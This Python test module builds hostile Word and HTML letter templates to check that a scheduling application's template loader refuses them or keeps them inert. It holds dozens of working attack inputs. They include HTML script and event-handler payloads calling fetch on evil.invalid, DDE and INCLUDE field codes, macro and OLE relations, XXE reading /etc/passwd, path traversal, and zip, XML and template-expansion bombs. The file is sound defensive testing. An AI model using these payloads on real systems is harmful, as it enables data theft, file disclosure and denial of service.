"""Letter templates that fetch, run, embed, unfold or multiply: refused with their name, or inert in the letters."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import replace
from functools import partial

from rsa_sched.publish.letters.folder import BUNDLED
from tests.hostile.base import Case, Cases, published
from tests.hostile.bombs import with_blanks

WORD, PAGE = "prescripteur.docx", "prescripteur.html"
MARK = "evil.invalid"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_BODY, _RELATIONS, _TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"


def _template(name: str, data: bytes, inert: tuple[bytes, ...]) -> Case:
    trial = replace(published({f"modeles/{name}": data}, "--templates", "modeles"), secrets=("zorzorzoro",))
    return Case(trial, (0, 2), says=name, inert=inert)


def page(added: str, inert: str = MARK) -> Case:
    """The HTML letter with something added before its signature."""
    text = (BUNDLED / PAGE).read_text("utf-8")
    assert '<p class="signature">' in text
    return _template(
        PAGE, text.replace('<p class="signature">', f'{added}<p class="signature">').encode(), (inert.encode(),)
    )


def whole_page(text: str, inert: str = MARK) -> Case:
    """Another HTML letter, which has the mention."""
    return _template(PAGE, text.encode("utf-8", "surrogatepass"), (inert.encode(),) if inert else ())


def parts_of(name: str = WORD) -> dict[str, bytes]:
    """The parts of a bundled Word template."""
    with zipfile.ZipFile(BUNDLED / name) as archive:
        return {part: archive.read(part) for part in archive.namelist()}


def packed(parts: Mapping[str, bytes]) -> bytes:
    """A zip of parts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return stream.getvalue()


def word(added: str = "", *, more: Mapping[str, bytes] | None = None, relations: str = "", types: str = "",
         inert: str = MARK) -> Case:  # fmt: skip
    """The Word letter with XML added at the end of its body, parts, relations and types of content."""
    parts = parts_of()
    end = parts[_BODY].rindex(b"<w:sectPr")
    parts[_BODY] = parts[_BODY][:end] + added.encode() + parts[_BODY][end:]
    parts[_RELATIONS] = parts[_RELATIONS].replace(b"</Relationships>", relations.encode() + b"</Relationships>")
    parts[_TYPES] = parts[_TYPES].replace(b"</Types>", types.encode() + b"</Types>")
    return _template(WORD, packed(parts | (more or {})), (inert.encode(),) if inert else ())


def relation(kind: str, target: str, mode: str = "External") -> str:
    """A relation of the document."""
    return f'<Relationship Id="rIdX" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def field(code: str) -> str:
    """A paragraph with a field, in one piece."""
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


def cut_field(code: str, step: int = 3) -> str:
    """The same in pieces, as Word writes it."""
    pieces = "".join(
        f'<w:r><w:instrText xml:space="preserve">{code[n : n + step]}</w:instrText></w:r>'
        for n in range(0, len(code), step)
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


FIELDS = {
    "DDEAUTO": "DDEAUTO c:\\\\evil.invalid /k",
    "DDE": "DDE c:\\\\evil.invalid x",
    "INCLUDETEXT": "INCLUDETEXT //evil.invalid/x.docx",
    "INCLUDEPICTURE": "INCLUDEPICTURE //evil.invalid/x.png \\d",
    "INCLUDE": "INCLUDE //evil.invalid/x.docx",
    "IMPORT": "IMPORT //evil.invalid/x.png",
    "LINK": "LINK Excel.Sheet.12 //evil.invalid/x.xlsx",
    "EMBED": "EMBED Package evil.invalid",
    "DATABASE": "DATABASE \\d //evil.invalid/x.mdb",
    "RD": "RD //evil.invalid/x.docx",
    "MACROBUTTON": "MACROBUTTON evil.invalid x",
    "QUOTE of a field": "QUOTE 68 68 69 evil.invalid",
    "HTMLCONTROL": "HTMLCONTROL evil.invalid",
    "AUTOTEXT": "AUTOTEXT evil.invalid",
}
RELATIONS = ("image", "oleObject", "attachedTemplate", "frame", "subDocument", "aFChunk", "video", "audio", "control",
             "package", "customXml", "glossaryDocument", "settings", "styles", "header", "footer", "comments",
             "font", "theme", "vbaProject")  # fmt: skip
PAGES = {
    "script": "<script>fetch('//evil.invalid')</script>",
    "script from outside": "<script src=//evil.invalid/x.js></script>",
    "script in capitals": "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "script in svg": "<svg><script href=//evil.invalid/x.js /></svg>",
    "svg of a use": "<svg><use href=//evil.invalid/x.svg#a /></svg>",
    "svg of an image": "<svg><image href=//evil.invalid/x.png /></svg>",
    "svg that loads": "<svg onload=fetch('//evil.invalid')>",
    "math": "<math><mtext href=//evil.invalid></math>",
    "frame": "<iframe src=//evil.invalid></iframe>",
    "frame of a text": "<iframe srcdoc='<p>evil.invalid</p>'></iframe>",
    "frames": "<frameset><frame src=//evil.invalid></frameset>",
    "object": "<object data=//evil.invalid></object>",
    "embed": "<embed src=//evil.invalid>",
    "applet": "<applet codebase=//evil.invalid></applet>",
    "image": "<img src=//evil.invalid/x.png alt=''>",
    "image of several sizes": "<img srcset='//evil.invalid/x.png 2x' alt=''>",
    "image by https": "<img src='https://evil.invalid/x.png' alt=''>",
    "image cut by a line": "<img\nsrc='https://evil.invalid/x.png'\nalt=''>",
    "image that fails": "<img src=x onerror=\"fetch('//evil.invalid')\">",
    "picture": "<picture><source srcset=//evil.invalid/x.webp></picture>",
    "video": "<video src=//evil.invalid autoplay></video>",
    "audio": "<audio src=//evil.invalid autoplay></audio>",
    "track": "<video><track src=//evil.invalid></video>",
    "poster": "<video poster=//evil.invalid/x.png></video>",
    "input of an image": "<input type=image src=//evil.invalid/x.png>",
    "form": "<form action=//evil.invalid><button>Oui</button></form>",
    "button": "<button formaction=//evil.invalid>Oui</button>",
    "base": "<base href=//evil.invalid/>",
    "link": "<link rel=stylesheet href=//evil.invalid/x.css>",
    "preload": "<link rel=preload as=image href=//evil.invalid/x.png>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "style that imports": "<style>@import '//evil.invalid/x.css';</style>",
    "style of a picture": "<style>p{background:url(//evil.invalid/x.png)}</style>",
    "style of a font": "<style>@font-face{font-family:x;src:url(//evil.invalid/x.woff)}</style>",
    "style in an attribute": "<p style='background:url(//evil.invalid/x.png)'>x</p>",
    "style with escapes": "<p style='background:\\75 rl(//evil.invalid/x.png)'>x</p>",
    "background": "<table background=//evil.invalid/x.png></table>",
    "javascript": "<a href=\"javascript:fetch('//evil.invalid')\">x</a>",
    "javascript in pieces": "<a href=\"java&#10;script:fetch('//evil.invalid')\">x</a>",
    "data": "<a href='data:text/html,<p>evil.invalid'>x</a>",
    "ping": "<a href=# ping=//evil.invalid>x</a>",
    "an event": "<p onmouseover=\"fetch('//evil.invalid')\">x</p>",
    "an event behind a slash": "<p/onmouseover=\"fetch('//evil.invalid')\">x</p>",
    "details": "<details open ontoggle=\"fetch('//evil.invalid')\">x</details>",
    "template": "<template><img src=//evil.invalid></template>",
    "portal": "<portal src=//evil.invalid></portal>",
    "noscript": "<noscript><img src=//evil.invalid></noscript>",
    "a comment of old browsers": "<!--[if IE]><img src=//evil.invalid><![endif]-->",
    "a document type": "<!DOCTYPE x [<!ENTITY e SYSTEM '//evil.invalid'>]>",
    "a page within": "</article></main></body></html><script>//evil.invalid</script>",
    "an instruction": "<?xml-stylesheet href='//evil.invalid/x.xsl'?>",
    "an attribute of a field": "<img src='//evil.invalid/{{ destinataire.nom }}'>",
    "a tag of fields": "<{{ 'script' }} src=//evil.invalid></{{ 'script' }}>",
    "an attribute cut in two": "<img s{{ '' }}rc=//evil.invalid/x.png>",
}
_ROWS = "{% for r in rendez_vous %}{% for a in ajournements %}"
MULTIPLIED = {
    "join over a text": "{{ mention|join(mention) }}",
    "join over joined": "{{ mention|join(mention)|join(mention)|join(mention) }}",
    "join in a loop": "{% for r in rendez_vous %}{{ mention|join(mention) }}{% endfor %}",
    "join of a list": "{{ rendez_vous|join(mention) }}",
    "a long constant joined": "{{ mention|join('" + "x" * 100_000 + "') }}",
    "a constant in a loop": "{% for r in rendez_vous %}" + "x" * 400_000 + "{% endfor %}",
    "a loop in a loop over the same": "{% for r in rendez_vous %}{% for s in rendez_vous %}"
    + "x" * 100_000 + "{% endfor %}{% endfor %}",
    "a loop in a loop": f"{_ROWS}{'x' * 100_000}{{% endfor %}}{{% endfor %}}",
    "a thousand loops": "{% for r in rendez_vous %}{{ mention }}{% endfor %}" * 1_000,
    "added texts": "{{ " + " ~ ".join(["mention"] * 10_000) + " }}",
    "a thousand conditions": "{% if mention %}" * 1_000 + "{% endif %}" * 1_000,
    "a thousand brackets": "{{ " + "(" * 1_000 + "mention" + ")" * 1_000 + " }}",
    "a thousand filters": "{{ mention" + "|upper" * 5_000 + " }}",
    "a thousand nots": "{% if " + "not " * 5_000 + "mention %}{% endif %}",
    "a number of 10000 figures": "{{ " + "9" * 10_000 + " }}",
    "opened 400000 times": "{{" * 200_000,
    "comments opened": "{#" * 200_000,
    "blanks in a tag": "{{" + " " * 400_000 + "mention }}",
    "raw": "{% raw %}" + "{{" * 1_000 + "{% endraw %}",
}  # fmt: skip


JOINED = ("join over a text", "join over joined", "join in a loop", "a long constant joined")
"""Those of `MULTIPLIED` that put a text between the letters of a text: refused, whatever comes of them."""


def _paragraph(text: str) -> Case:
    return word(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>", inert="")


def _multiplied(kind: Callable[[str], Case], name: str) -> Case:
    return replace(kind(MULTIPLIED[name]), codes=(2,) if name in JOINED else (0, 2), inert=())


def page_cases() -> Cases:
    """Templates of HTML and text."""
    mention = "{{ mention }}"
    return {
        **{f"page: {name}": partial(page, added) for name, added in PAGES.items()},
        **{f"page: {name}": partial(_multiplied, page, name) for name in MULTIPLIED},
        "page: nothing but the mention": lambda: whole_page(mention),
        "page: NULs": lambda: whole_page("\0" * 1_000 + mention, "\0"),
        "page: turned": lambda: whole_page("\u202e" + mention, "\u202e"),
        "page: half a pair": lambda: whole_page("\ud800" + mention, ""),
        "page: tags never closed": lambda: whole_page("<b>" * 50_000 + mention, ""),
        "page: deep": lambda: whole_page("<div>" * 20_000 + mention + "</div>" * 20_000, ""),
        "page: mark of the frame": lambda: whole_page("<!-- courriers -->" * 100 + mention, "<!-- courriers -->"),
        "page: a mention that is a script": lambda: _mention("<script>//evil.invalid</script>"),
        "page: a mention of blanks": lambda: replace(_mention("\u200b\u2060\u00ad" * 10), codes=(2,)),
        "page: a mention that multiplies": lambda: _mention("{{ expediteur.nom|join(expediteur.nom) }}" * 1_000),
    }


def _mention(text: str) -> Case:
    return _template("mention.txt", text.encode(), (b"<script>//",))


def word_cases() -> Cases:
    """Templates of Word."""
    chunk = f'<w:altChunk xmlns:r="{_OFFICE}" r:id="rIdX"/>'
    settings = parts_of()["word/settings.xml"]
    types = '<Override PartName="/word/{}" ContentType="{}"/>'
    body = parts_of()[_BODY]
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%b">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    ) + b"]>"  # fmt: skip
    declared = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", body)

    def with_body(data: bytes, inert: bytes = b"") -> Case:
        return _template(WORD, packed(parts_of() | {_BODY: data}), (inert,) if inert else ())

    found: Cases = {
        **{f"word: field {name}": partial(word, field(code)) for name, code in FIELDS.items()},
        **{f"word: field {name} in pieces": partial(word, cut_field(code), inert=code[:3]) for name, code in FIELDS.items()
           if name in ("DDEAUTO", "INCLUDETEXT", "LINK", "INCLUDEPICTURE")},
        **{f"word: relation {kind}": partial(word, relations=relation(kind, "http://evil.invalid/x")) for kind in RELATIONS},
        **{f"word: {name}": partial(_multiplied, _paragraph, name) for name in MULTIPLIED},
        "word: field within a field": lambda: word(cut_field("QUOTE ").replace("<w:t>x</w:t>", "<w:instrText>DDEAUTO evil.invalid</w:instrText>")),
        "word: altChunk": lambda: word(chunk, more={"word/x.html": b"<script>//evil.invalid</script>"},
                               relations=relation("aFChunk", "x.html", "Internal"),
                               types='<Default Extension="html" ContentType="text/html"/>'),
        "word: altChunk of RTF": lambda: word(chunk, more={"word/x.rtf": b"{\\rtf1 evil.invalid}"},
                                      relations=relation("aFChunk", "x.rtf", "Internal"),
                                      types='<Default Extension="rtf" ContentType="application/rtf"/>'),
        "word: object": lambda: word(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0evil.invalid"},
                             relations=relation("oleObject", "embeddings/oleObject1.bin", "Internal"),
                             types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
        "word: program": lambda: word(more={"word/embeddings/x.exe": b"MZevil.invalid"},
                              relations=relation("package", "embeddings/x.exe", "Internal"),
                              types='<Default Extension="exe" ContentType="application/x-msdownload"/>'),
        "word: control": lambda: word(more={"word/activeX/activeX1.xml": b"<x>evil.invalid</x>"},
                              relations=relation("control", "activeX/activeX1.xml", "Internal"),
                              types=types.format("activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")),
        "word: macros": lambda: word(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0evil.invalid"},
                             relations='<Relationship Id="rIdX" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
                             types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        "word: named as one with macros": lambda: _template(WORD, packed(parts_of() | {
            _TYPES: parts_of()[_TYPES].replace(b"wordprocessingml.document.main", b"x").replace(
                b"application/vnd.openxmlformats-officedocument.x", b"application/vnd.ms-word.document.macroEnabled.main")}),
            (b"macroEnabled",)),
        "word: parts that nothing names": lambda: word(more={"word/evil.invalid.bin": b"x"}),
        "word: remote template": lambda: _template(WORD, packed(parts_of() | {
            "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + relation("attachedTemplate", "http://evil.invalid/x.dotm").encode() + b"</Relationships>",
            "word/settings.xml": settings.replace(b"</w:settings>", b'<w:attachedTemplate xmlns:r="' + _OFFICE.encode()
                                                  + b'" r:id="rIdX"/></w:settings>')}), (MARK.encode(),)),
        "word: mail merge": lambda: _template(WORD, packed(parts_of() | {
            "word/settings.xml": settings.replace(b"</w:settings>", b'<w:mailMerge><w:query w:val="SELECT evil.invalid"/>'
                                                  b"</w:mailMerge></w:settings>")}), (MARK.encode(),)),
        "word: frames": lambda: word(more={"word/webSettings.xml": f'<w:webSettings xmlns:w="{_W}"><w:frameset><w:frame>'
                                   '<w:sourceFileName w:val="evil.invalid"/></w:frame></w:frameset></w:webSettings>'.encode()}),
        "word: a relation of a relation": lambda: word(relations=relation("hyperlink", "file:///c:/evil.invalid.exe")),
        "word: a picture of VML": lambda: word('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
                                       f'xmlns:r="{_OFFICE}" r:href="rIdX"/></v:shape></w:pict></w:r></w:p>',
                                       relations=relation("image", "//evil.invalid/x.png")),
        "word: unfolds to 49 MiB": lambda: _template(WORD, packed(parts_of() | {"word/x.xml": b" " * (49 << 20)}), ()),
        "word: unfolds to 3 GiB": lambda: _template(WORD, _huge(3 << 30), ()),
        "word: lies about its size": lambda: _template(WORD, _lying(60 << 20), ()),
        "word: a body of 45 MiB": lambda: with_body(body.replace(b"</w:body>", b"<w:p/>" * 7_500_000 + b"</w:body>")),
        "word: 200000 paragraphs": lambda: with_body(body.replace(b"<w:sectPr", b"<w:p/>" * 70_000 + b"<w:sectPr", 1)),
        "word: nested 5000 times": lambda: word("<w:sdt>" * 5_000 + "</w:sdt>" * 5_000, inert=""),
        "word: laughs": lambda: with_body(laughs + declared.replace(b"</w:body>", b"<w:p><w:r><w:t>&j;</w:t></w:r></w:p></w:body>")),
        "word: outside entity": lambda: with_body(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + declared.replace(
            b"</w:body>", b"<w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body>"), b"root:"),
        "word: laughs in styles": lambda: _template(WORD, packed(parts_of() | {
            "word/styles.xml": laughs + b"<x>&j;</x>"}), ()),
        "word: no body": lambda: _template(WORD, packed({name: data for name, data in parts_of().items() if name != _BODY}), ()),
        "word: no types": lambda: _template(WORD, packed({name: data for name, data in parts_of().items() if name != _TYPES}), ()),
        "word: body of nothing": lambda: with_body(b""),
        "word: body of UTF-16": lambda: with_body(body.decode().replace("UTF-8", "UTF-16").encode("utf-16")),
        "word: a relation that leads out": lambda: word(relations=relation("image", "../../../../etc/passwd", "Internal"), inert="root:"),
        "word: a relation to nothing": lambda: word(relations=relation("header", "none.xml", "Internal")),
        "word: a workbook": lambda: _template(WORD, packed({"xl/workbook.xml": b"<x/>", _TYPES: b"<Types/>"}), ()),
        "word: a page": lambda: _template(WORD, b"<html>", ()),
        "word: cut": lambda: _template(WORD, packed(parts_of())[:-200], ()),
        "word: a part twice": lambda: _template(WORD, _twice(), ()),
        "word: 70000 parts": lambda: _template(WORD, _many(), ()),
        "word: paths that lead out": lambda: word(more={"../../evil.invalid": b"x", "/etc/evil.invalid": b"x"}),
    }  # fmt: skip
    refused = ("word: unfolds to 3 GiB", "word: lies about its size", "word: no body", "word: no types", "word: a page",
               "word: body of nothing", "word: cut", "word: laughs", "word: outside entity", "word: a workbook")  # fmt: skip
    return {name: partial(_refused, make) if name in refused else make for name, make in found.items()}


def _refused(make: Callable[[], Case]) -> Case:
    return replace(make(), codes=(2,))


def _huge(size: int) -> bytes:
    """A template with a part of so many blanks."""
    return with_blanks(packed(parts_of()), "word/x.xml", size)


def _lying(size: int) -> bytes:
    data = _huge(size)
    at = data.rindex(b"PK\x01\x02")
    return data[: at + 24] + b"\x10\0\0\0" + data[at + 28 :]


def _twice() -> bytes:
    import warnings

    stream = io.BytesIO(packed(parts_of()))
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(_BODY, b"<x/>")
    return stream.getvalue()


def _many() -> bytes:
    stream = io.BytesIO(packed(parts_of()))
    with zipfile.ZipFile(stream, "a") as archive:
        for number in range(30_000):
            archive.writestr(f"word/{number}.xml", b"")
    return stream.getvalue()
